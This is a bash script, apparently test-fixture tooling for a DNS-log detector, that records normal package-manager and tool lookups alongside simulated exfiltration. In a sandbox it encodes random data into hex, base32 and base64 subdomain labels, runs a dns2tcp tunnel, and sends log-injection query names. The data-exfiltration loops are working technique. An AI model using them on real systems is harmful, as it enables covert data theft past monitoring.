#!/bin/bash
# Makes the logs in tests/learn/logs: what apt, npm, git, curl, glibc and dig really look up, and
# four ways of carrying data out in names, as a dnsmasq and an Unbound log them.
#
#   scripts/learn/capture.sh FOLDER     (as root; Debian: apt npm git curl bind9-dnsutils dnsmasq-base
#                                        unbound dns2tcp iproute2 util-linux xxd)
#
# All of it happens in namespaces of its own, in which every name has the address 127.0.0.1.
set -u
folder=$(realpath "$1")
if [ "${2:-}" != inside ]; then
  exec unshare --net --mount --pid --fork --kill-child --mount-proc bash "$0" "$folder" inside
fi

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work" || exit 1
ip link set lo up
# glibc leaves IPv6 out where no link but loopback has an address.
ip link add veth0 type veth peer name veth1
ip link set veth0 up
ip link set veth1 up
ip addr add 10.0.0.7/24 dev veth0
ip -6 addr add fd00::7/64 dev veth0 nodad
printf 'nameserver 127.0.0.1\nsearch corp.example\noptions timeout:1 attempts:1\n' > resolv.conf
printf 'hosts: dns\n' > nsswitch.conf
: > hosts
for file in resolv.conf nsswitch.conf hosts; do mount --bind $file /etc/$file; done

dnsmasq=(dnsmasq --no-daemon --conf-file=/dev/null --user=root --pid-file= --no-resolv --no-hosts
  --bind-interfaces --address=/#/127.0.0.1 --cache-size=0)
"${dnsmasq[@]}" --listen-address=127.0.0.1,10.0.0.7 --local=/corp.example/ --local=/gone.example.net/ \
  --address=/db.corp.example/10.0.0.5 --log-queries --log-facility="$work/day.log" 2> /dev/null &
resolver=$!
sleep 1

legitimate() {
  local name
  mkdir -p lists/partial cache/archives/partial home
  printf 'deb http://%s.debian.org/debian%s bookworm%s main\n' \
    deb '' '' security -security -security > sources.list
  export HOME=$work/home GIT_TERMINAL_PROMPT=0 GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_SYSTEM=/dev/null
  export npm_config_fetch_retries=0 npm_config_registry=https://packages.nodejs.org/
  unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY
  timeout 60 apt-get -o Dir::Etc::main=/dev/null -o Dir::Etc::parts=/dev/null \
    -o Dir::Etc::sourcelist="$work/sources.list" -o Dir::Etc::sourceparts=/dev/null \
    -o Dir::State::lists="$work/lists" -o Dir::Cache="$work/cache" -o Acquire::Retries=0 update
  : > npmrc
  timeout 60 npm --userconfig="$work/npmrc" --globalconfig=/dev/null view express
  for name in denoland/deno git/git; do timeout 20 git ls-remote https://github.com/$name; done
  for name in api.github.com objects.githubusercontent.com pypi.org files.pythonhosted.org \
    index.crates.io static.crates.io ghcr.io db.corp.example metadata.gone.example.net; do
    curl -q -s -m 5 https://$name/
  done
  for name in {0..3}.debian.pool.ntp.org build-{01..12}.fleet.example.net printer nas.local \
    productionresultssa{0..9}.blob.core.windows.net localhost use-application-dns.net; do
    getent ahosts $name
  done
  getent hosts 10.0.0.5
  timeout 20 git ls-remote https://github.com/git/git
  dig +short debian.org MX
  dig +short _dmarc.debian.org TXT
  dig @10.0.0.7 +short deb.debian.org
}

planted() {
  local chunk
  head -c 240 /dev/urandom > secret
  xxd -p -c 24 secret | while read -r chunk; do getent ahosts "$chunk.x.exfil-hex.example"; done
  head -c 48 secret | xxd -p -c 4 | while read -r chunk; do getent ahosts "$chunk.exfil-short.example"; done
  base32 -w 48 secret | tr -d = | while read -r chunk; do getent ahosts "$chunk.exfil-32.example"; done
  base64 -w 40 secret | tr '+/' '-_' | tr -d = | while read -r chunk; do
    getent ahosts "$chunk.t.exfil-64.example"
  done
  timeout 10 dns2tcpc -f /dev/null -z tunnel.example -k secret -r echo -T TXT -l 4000 127.0.0.1 &
  local tunnel=$!
  sleep 1
  (exec 3<> /dev/tcp/127.0.0.1/4000 && echo secret >&3 && sleep 6)
  wait $tunnel
}

legitimate > /dev/null 2>&1
planted > /dev/null 2>&1
sleep 1
kill $resolver
wait $resolver

"${dnsmasq[@]}" --listen-address=127.0.0.1 --log-queries=extra --log-facility="$work/dnsmasq-extra.log" \
  2> /dev/null &
servers=$!
unbound_with() {
  printf 'server:\n  username: ""\n  chroot: ""\n  directory: "%s"\n  pidfile: ""\n  do-daemonize: no
  use-syslog: no\n  logfile: ""\n  interface: %s\n  access-control: 127.0.0.0/8 allow
  local-zone: "." refuse\n  local-zone: "example.net" redirect\n  local-data: "example.net A 192.0.2.1"\n' \
    "$work" "$2" > "$1.conf"
  printf '  %s\n' "${@:3}" >> "$1.conf"
  unbound -d -c "$1.conf" 2> "$1.log" &
  servers="$servers $!"
}
unbound_with unbound 127.0.0.2 "log-queries: yes"
unbound_with unbound-both 127.0.0.3 "log-queries: yes" "log-replies: yes" "log-time-ascii: yes" "log-tag-queryreply: yes"
unbound_with unbound-replies 127.0.0.4 "log-replies: yes"
sleep 3
for server in 127.0.0.1 127.0.0.2 127.0.0.3 127.0.0.4; do
  while read -r name type; do dig @$server +tries=1 +time=2 "$name" "$type"; done > /dev/null <<'QUESTIONS'
www.example.net A
www.example.net AAAA
_http._tcp.www.example.net SRV
Mixed.Example.NET A
a\032b.example.net A
query[A]\032forged.example.net\032from\03210.9.9.9 A
info:\03210.9.9.9\032forged.example.net.\032A\032IN A
b\010c\027d.example.net A
abc=d+e/f.example.net TXT
. NS
www.example.net NULL
www.example.net TYPE65
www.example.net TYPE65400
QUESTIONS
done
sleep 1
kill $servers
wait $servers
for log in day dnsmasq-extra unbound unbound-both unbound-replies; do cat $log.log > "$folder/$log.log"; done
